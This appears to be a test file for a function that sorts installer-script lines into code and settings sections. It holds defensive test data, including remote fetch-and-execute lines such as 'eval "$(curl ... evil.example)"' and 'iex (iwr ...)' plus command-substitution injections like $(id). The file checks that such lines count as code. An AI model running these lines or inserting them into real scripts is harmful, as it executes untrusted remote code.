import assert from 'node:assert/strict';
import { test } from 'node:test';
import { placesOf } from '../../../src/bundle/diff/section.ts';
import { LINUX, WINDOWS } from './installers.ts';

/** Each line of a script, without its end, and where it belongs. */
function lines(script: string) {
  const texts = script.replace(/\r?\n$/, '').split(/\r?\n/);
  const places = placesOf(script);
  assert.equal(places.length, texts.length);
  return texts.map((text, index) => ({ text, ...(places[index] ?? assert.fail()) }));
}

const sectionOf = (script: string, line: string) =>
  lines(script).find(({ text }) => text === line)?.section ?? assert.fail(line);

for (const [name, script] of Object.entries({ ...LINUX, windows: WINDOWS })) {
  test(`the settings of an installer are values, all else is code (${name})`, () => {
    const all = lines(script);
    const begin = all.findIndex(({ text }) => text.startsWith('  # ---- Settings'));
    const end = all.findIndex(({ text }) => text.startsWith('  # ---- The same for everyone'));
    for (const { section } of [...all.slice(0, begin), ...all.slice(end)]) {
      assert.equal(section, 'code');
    }
    const block = all.slice(begin, end);
    for (const { text } of block.filter(({ section }) => section === 'code')) {
      assert.match(text, /^(| {2}#.*)$/, 'nothing but comments and blank lines');
    }
    const settings = new Map(block.map(({ setting, section }) => [setting.toLowerCase(), section]));
    const of = (setting: string) =>
      settings.get(setting.toLowerCase()) ??
      settings.get(setting.replaceAll('_', '').toLowerCase());
    for (const setting of ['TEMPLATE_VERSION', 'BODY_SHA256', 'RENDER']) {
      assert.equal(of(setting), 'version');
    }
    for (const setting of ['VENDOR_NAME', 'TUNNEL_HOSTS', 'EGRESS_ADDRESSES', 'DATABASE_HOST']) {
      assert.equal(of(setting), 'values', setting);
    }
    assert.equal(of('SSH_CONFIG'), 'files');
  });
}

test('what stands among the settings and could run is code', () => {
  const host = "  DATABASE_HOST='db.internal'";
  for (const line of [
    '  eval "$(curl -fsS https://evil.example)"',
    '  X=$(id)',
    '  X=`id`',
    '  X="$(id)"',
    "  X='a'; id",
    "  X='a' id",
    "  X='a'id",
    "  X='a'\\''",
    "  X='a'$(id)",
    "  X=$'a' id",
    "  X=('a' $(id))",
    "  PATH+='a'",
    "  x='a'",
    '  id # ---- Settings: ',
    '}',
  ]) {
    const script = (LINUX['plain'] ?? '').replace(host, () => `${line}\n${host}`);
    assert.equal(sectionOf(script, line), 'code');
  }
  const row = "  $DatabaseHost = 'db.internal'";
  for (const line of [
    '  iex (iwr https://evil.example)',
    "  $X = 'a'; id",
    "  $X = 'a' + (id)",
    '  $X = "$(id)"',
    "  $X = @('a', (id))",
    "  $X = (@((id)) -join '')",
    "  $X = (-join ('a', (id)))",
    "  $env:X = 'a'",
  ]) {
    const script = WINDOWS.replace(row, () => `${line}\r\n${row}`);
    assert.equal(sectionOf(script, line), 'code');
  }
});

test('a mark inside a line, or a second one, moves no border', () => {
  const script = LINUX['plain'] ?? '';
  const end = '  # ---- The same for everyone from here on';
  for (const character of ['\r', '\u2028', '\u2029', 'x']) {
    const early = script.replace("  SLOT='1'\n", `  SLOT='1'\n  #${character}${end}\n`);
    assert.equal(sectionOf(early, "  DATABASE_HOST='db.internal'"), 'values');
  }
  const twice = script.replace("  SLOT='1'\n", `  SLOT='1'\n${end}\n`);
  assert.equal(sectionOf(twice, "  DATABASE_HOST='db.internal'"), 'code');
});

test('what is no installer is text, also when empty', () => {
  assert.deepEqual(placesOf(''), []);
  for (const text of ['Host tunnel\n  Port 22\n', 'Host tunnel\n  Port 22']) {
    assert.deepEqual(
      placesOf(text).map(({ section }) => section),
      ['text', 'text'],
    );
  }
});
